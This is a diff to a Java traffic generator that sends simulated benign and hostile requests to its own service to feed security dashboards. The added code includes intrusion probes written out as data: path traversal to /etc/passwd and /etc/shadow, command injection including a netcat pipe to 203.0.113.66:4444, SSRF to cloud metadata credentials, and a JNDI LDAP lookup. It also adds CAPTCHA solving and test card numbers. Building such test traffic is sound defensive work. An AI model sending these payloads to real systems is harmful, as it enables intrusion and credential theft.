@@ -10,6 +10,8 @@ import java.util.concurrent.ThreadLocalRandom;
 import java.util.concurrent.TimeUnit;
 import java.util.concurrent.atomic.AtomicLong;
 import java.util.concurrent.locks.LockSupport;
+import java.util.regex.Matcher;
+import java.util.regex.Pattern;
 
 import org.slf4j.Logger;
 import org.slf4j.LoggerFactory;
@@ -28,7 +30,10 @@ import org.springframework.web.client.RestClient;
  * Sends a realistic mix of good and hostile requests to this service, so the metrics
  * and dashboards have something to show: browsing and searching customers, SQL
  * injection probes, scanners hitting honeypots, credential stuffing, scripted clients,
- * bursts that trip the rate limit, and URLs the firewall rejects. Each simulated client
+ * bursts that trip the rate limit, URLs the firewall rejects, intrusion probes (path
+ * traversal, command injection, SSRF, JNDI lookups), bulk exports and id enumeration,
+ * CAPTCHAs solved right and wrong, and card numbers or e-mail addresses sent in URLs.
+ * Each simulated client
  * has its own address, sent as {@code X-Forwarded-For} (the service trusts it from the
  * loopback proxy only). Runs on one daemon thread from the moment the application is
  * ready until it shuts down; an attack spike sends hostile scenarios only, faster.
@@ -55,7 +60,27 @@ public final class TrafficGenerator implements DisposableBean {
 	private static final List<String> FIREWALL_PATHS = List.of("/api/items;jsessionid=0AF3", "/api/items/%252e%252e",
 			"/api/items/..;/admin/report", "/api/items/%2e%2e/admin");
 
+	private static final List<String> PROBED_PATHS = List.of("/api/items", "/api/search", "/api/items/export");
+
 	private static final List<String> USERNAMES = List.of("admin", "root", "demo", "test", "guest", "support");
+
+	/** Probes an intrusion scanner sprays over any endpoint's parameters: name, value. */
+	private static final List<List<String>> INTRUSION_PROBES = List.of(List.of("file", "../../../../etc/passwd"),
+			List.of("template", "..\\..\\windows\\win.ini"), List.of("q", "; cat /etc/passwd"),
+			List.of("q", "$(whoami)"), List.of("host", "127.0.0.1 | nc 203.0.113.66 4444"),
+			List.of("callback", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
+			List.of("image", "http://localhost:8080/actuator/env"), List.of("url", "file:///etc/shadow"),
+			List.of("q", "${jndi:ldap://203.0.113.66:1389/a}"));
+
+	/** Well-known test card numbers (Luhn-valid), as carding bots and careless users send them. */
+	private static final List<String> CARD_NUMBERS = List.of("4111111111111111", "5555 5555 5555 4444",
+			"378282246310005", "4012-8888-8888-1881", "6011111111111117");
+
+	private static final List<String> EMAILS = List.of("jane.doe@example.com", "j.smith+orders@example.org");
+
+	private static final Pattern CAPTCHA_TOKEN = Pattern.compile("\"token\"\\s*:\\s*\"([0-9a-fA-F-]{36})\"");
+
+	private static final Pattern CAPTCHA_QUESTION = Pattern.compile("What is (\\d+) \\+ (\\d+)\\?");
 
 	private final TrafficProperties properties;
 
@@ -205,24 +230,39 @@ public final class TrafficGenerator implements DisposableBean {
 			hostileScenario(client, roll, random);
 			return;
 		}
-		if (roll < 35) {
+		if (roll < 33) {
 			get(client, "/api/items", goodClient(random), BROWSER);
 		}
-		else if (roll < 45) {
+		else if (roll < 43) {
 			get(client, "/api/items/" + (random.nextInt(10) < 8 ? random.nextInt(1, 4) : 9), goodClient(random),
 					BROWSER);
 		}
-		else if (roll < 57) {
+		else if (roll < 54) {
 			search(client, pick(GOOD_QUERIES, random), goodClient(random), BROWSER);
 		}
-		else if (roll < 60) {
+		else if (roll < 57) {
 			login(client, "demo", this.demoPassword, goodClient(random), random.nextBoolean());
 		}
-		else if (roll < 62) {
+		else if (roll < 59) {
 			basic(client, "/api/account", "demo", this.demoPassword, goodClient(random));
 		}
-		else if (roll < 64) {
+		else if (roll < 60) {
 			get(client, "/api/account", goodClient(random), BROWSER);
+		}
+		else if (roll < 62) {
+			get(client, "/api/items/export?limit=" + random.nextInt(10, 101), goodClient(random), BROWSER);
+		}
+		else if (roll < 64) {
+			// A customer asked to prove being human; half of them browse with the user agent
+			// stripped by a privacy extension, which the bot detector flags: their solved
+			// CAPTCHA shows that verdict was a false positive.
+			captcha(client, goodClient(random), random.nextBoolean() ? BROWSER : "", random.nextInt(10) < 9,
+					random);
+		}
+		else if (roll < 65) {
+			// A customer pasting personal or payment data into the search box.
+			search(client, random.nextBoolean() ? pick(EMAILS, random) : pick(CARD_NUMBERS, random),
+					goodClient(random), BROWSER);
 		}
 		else {
 			hostileScenario(client, random.nextInt(100), random);
@@ -231,33 +271,104 @@ public final class TrafficGenerator implements DisposableBean {
 
 	private void hostileScenario(RestClient client, int roll, ThreadLocalRandom random) {
 		String attacker = attacker(random);
-		if (roll < 25) {
+		if (roll < 18) {
 			search(client, pick(SQL_INJECTIONS, random), attacker, pick(BOT_AGENTS, random));
 		}
-		else if (roll < 35) {
+		else if (roll < 25) {
 			get(client, pick(HONEYPOTS, random), attacker, pick(BOT_AGENTS, random));
 		}
-		else if (roll < 52) {
+		else if (roll < 37) {
 			login(client, pick(USERNAMES, random), "guess-" + random.nextInt(1000), attacker, random.nextBoolean());
 		}
-		else if (roll < 60) {
+		else if (roll < 42) {
 			basic(client, "/api/account", pick(USERNAMES, random), "hunter" + random.nextInt(100), attacker);
 		}
-		else if (roll < 65) {
+		else if (roll < 45) {
 			basic(client, "/api/admin/report", "demo", this.demoPassword, attacker);
 		}
-		else if (roll < 85) {
+		else if (roll < 56) {
 			get(client, "/api/items", attacker, pick(BOT_AGENTS, random));
 		}
-		else if (roll < 93) {
-			// A burst well past the per-client capacity trips the rate limit.
-			for (int i = 0; i < 25 && this.running; i++) {
+		else if (roll < 62) {
+			// A burst well past the per-client capacity trips the rate limit; more than
+			// half of it is refused, which the behaviour detector sees as a request burst
+			// and an error burst.
+			for (int i = 0; i < 50 && this.running; i++) {
 				get(client, "/api/items", attacker, BROWSER);
 			}
 		}
-		else {
+		else if (roll < 67) {
 			get(client, pick(FIREWALL_PATHS, random), attacker, pick(BOT_AGENTS, random));
 		}
+		else if (roll < 77) {
+			List<String> probe = pick(INTRUSION_PROBES, random);
+			getWithParameter(client, pick(PROBED_PATHS, random), probe.get(0), probe.get(1), attacker,
+					pick(BOT_AGENTS, random));
+		}
+		else if (roll < 82) {
+			get(client, "/api/items/export?limit=" + (1000 * random.nextInt(1, 100)), attacker,
+					pick(BOT_AGENTS, random));
+		}
+		else if (roll < 85) {
+			// Walking through item ids to copy the catalogue, most of which do not exist.
+			int first = random.nextInt(1, 1000);
+			for (int id = first; id < first + 20 && this.running; id++) {
+				get(client, "/api/items/" + id, attacker, pick(BOT_AGENTS, random));
+			}
+		}
+		else if (roll < 95) {
+			// A bot meeting a CAPTCHA: it mostly fails; a solver service sometimes passes.
+			captcha(client, attacker, pick(BOT_AGENTS, random), random.nextInt(10) < 2, random);
+		}
+		else {
+			// Card testing: stolen card numbers sent as query parameters.
+			getWithParameter(client, "/api/items", "card", pick(CARD_NUMBERS, random), attacker,
+					pick(BOT_AGENTS, random));
+		}
+	}
+
+	private void getWithParameter(RestClient client, String path, String name, String value, String clientIp,
+			String userAgent) {
+		client.get()
+			.uri(path + "?" + name + "={value}", value)
+			.header("X-Forwarded-For", clientIp)
+			.header(HttpHeaders.USER_AGENT, userAgent)
+			.exchange((request, response) -> response.getStatusCode().value());
+	}
+
+	/**
+	 * Ask for a CAPTCHA and answer it: rightly when {@code solve}, else with a wrong
+	 * answer, or now and then a token that was never issued.
+	 */
+	private void captcha(RestClient client, String clientIp, String userAgent, boolean solve,
+			ThreadLocalRandom random) {
+		String challenge = client.post()
+			.uri("/api/captcha/challenge")
+			.header("X-Forwarded-For", clientIp)
+			.header(HttpHeaders.USER_AGENT, userAgent)
+			.exchange((request, response) -> response.getStatusCode().is2xxSuccessful()
+					? new String(response.getBody().readAllBytes(), StandardCharsets.UTF_8) : null);
+		if (challenge == null) {
+			return;
+		}
+		Matcher token = CAPTCHA_TOKEN.matcher(challenge);
+		Matcher question = CAPTCHA_QUESTION.matcher(challenge);
+		if (!token.find() || !question.find()) {
+			return;
+		}
+		int answer = Integer.parseInt(question.group(1)) + Integer.parseInt(question.group(2));
+		if (!solve) {
+			answer += random.nextInt(1, 5);
+		}
+		String sentToken = (!solve && random.nextInt(10) == 0) ? "00000000-0000-0000-0000-000000000000"
+				: token.group(1);
+		client.post()
+			.uri("/api/captcha/verify")
+			.header("X-Forwarded-For", clientIp)
+			.header(HttpHeaders.USER_AGENT, userAgent)
+			.contentType(MediaType.APPLICATION_JSON)
+			.body("{\"token\":\"" + sentToken + "\",\"answer\":\"" + answer + "\"}")
+			.exchange((request, response) -> response.getStatusCode().value());
 	}
 
 	private void get(RestClient client, String path, String clientIp, String userAgent) {
@@ -312,7 +423,7 @@ public final class TrafficGenerator implements DisposableBean {
 		return "203.0.113." + random.nextInt(1, 255);
 	}
 
-	private static String pick(List<String> values, ThreadLocalRandom random) {
+	private static <T> T pick(List<T> values, ThreadLocalRandom random) {
 		return values.get(random.nextInt(values.size()));
 	}
 
